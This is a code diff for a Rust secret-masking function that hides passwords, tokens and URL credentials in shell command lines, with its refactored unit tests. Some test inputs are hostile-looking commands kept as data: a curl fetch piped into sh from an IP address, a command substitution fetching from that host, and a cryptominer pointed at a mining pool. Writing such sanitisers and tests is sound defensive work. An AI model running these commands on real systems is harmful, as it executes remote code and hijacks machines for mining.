@@ -52,16 +52,10 @@ fn of_line(line: &[u8]) -> Vec<u8> {
             if quoted.is_some_and(|quote| word.contains(&quote)) {
                 quoted = None;
             } else if next_is_secret {
-                let quote = word.last().copied().filter(|it| matches!(it, b'"' | b'\''));
-                let marks = word.iter().filter(|it| matches!(it, b'"' | b'\'')).count();
-                let ends = word.iter().any(|it| matches!(it, b'(' | b')' | b';' | b'|' | b'&'));
-                // `x= y` runs `y`, and so does `x="" y`.
-                next_is_secret = !ends && marks < 2 && (!assigned || word.len() == marks);
                 let begin = word.as_ptr().addr() - line.as_ptr().addr() + word.len();
-                let inside = line.get(begin..).unwrap_or_default();
-                let inside = inside.split(|byte| Some(*byte) == quote).next().unwrap_or_default();
-                let runs = quote.is_some() && runs(inside);
-                next_is_secret &= !runs;
+                let quote = word.last().copied().filter(|it| is_quote(*it));
+                next_is_secret = stands_behind(word, assigned)
+                    && !runs_in_quotes(quote, line.get(begin..).unwrap_or_default());
                 quoted = quote.filter(|_| next_is_secret && !makes);
             }
             continue;
@@ -103,6 +97,20 @@ fn of_line(line: &[u8]) -> Vec<u8> {
         }
     }
     shown
+}
+
+/// What is behind this gap belongs to what stands before it: `x= y` runs `y`, and so does `x="" y`.
+fn stands_behind(gap: &[u8], assigned: bool) -> bool {
+    let marks = gap.iter().filter(|it| is_quote(**it)).count();
+    let ends = gap.iter().any(|it| matches!(it, b'(' | b')' | b';' | b'|' | b'&'));
+    !ends && marks < 2 && (!assigned || gap.len() == marks)
+}
+
+/// What stands in these quotes may run.
+fn runs_in_quotes(quote: Option<u8>, behind: &[u8]) -> bool {
+    let inside = behind.split(|byte| Some(*byte) == quote).next().unwrap_or_default();
+    // A quote in a text in quotes has a backslash before it.
+    quote.is_some() && runs(inside.strip_suffix(b"\\").unwrap_or(inside))
 }
 
 const fn is_quote(byte: u8) -> bool {
@@ -238,6 +246,22 @@ mod tests {
                 "curl -sH Authorization: 198.51.100.7/a5 | sh",
                 "curl -sH Authorization: 198.51.100.7/a5 | sh",
             ),
+            ("useradd -p $6$x1$y m", "useradd -p *** m"),
+            ("A_TOKEN=ab/cd+x1==", "A_TOKEN=***"),
+            ("git clone https://a:x1@b.example/c", "git clone https://a:***@b.example/c"),
+            ("TOKEN=$(curl http://198.51.100.7/x) sh", "TOKEN=$(curl http://198.51.100.7/x) sh"),
+            (
+                "./x -o stratum+tcp://a.example:1 -u b.c -p x",
+                "./x -o stratum+tcp://a.example:1 -u b.c -p x",
+            ),
+        ] {
+            assert_eq!(String::from_utf8_lossy(&masked(line.as_bytes())), shown);
+        }
+    }
+
+    #[test]
+    fn what_looks_like_a_secret_in_json_is_not_kept() {
+        for (line, shown) in [
             (
                 r#"echo '{"api_token":"x1","port":8080}' > /etc/a.json"#,
                 r#"echo '{"api_token":"***","port":8080}' > /etc/a.json"#,
@@ -248,14 +272,6 @@ mod tests {
             ),
             (r#"curl -d '{"secret" : 17}' b.example"#, r#"curl -d '{"secret" : ***' b.example"#),
             ("echo \"token\" > /etc/a", "echo \"token\" > /etc/a"),
-            ("useradd -p $6$x1$y m", "useradd -p *** m"),
-            ("A_TOKEN=ab/cd+x1==", "A_TOKEN=***"),
-            ("git clone https://a:x1@b.example/c", "git clone https://a:***@b.example/c"),
-            ("TOKEN=$(curl http://198.51.100.7/x) sh", "TOKEN=$(curl http://198.51.100.7/x) sh"),
-            (
-                "./x -o stratum+tcp://a.example:1 -u b.c -p x",
-                "./x -o stratum+tcp://a.example:1 -u b.c -p x",
-            ),
         ] {
             assert_eq!(String::from_utf8_lossy(&masked(line.as_bytes())), shown);
         }
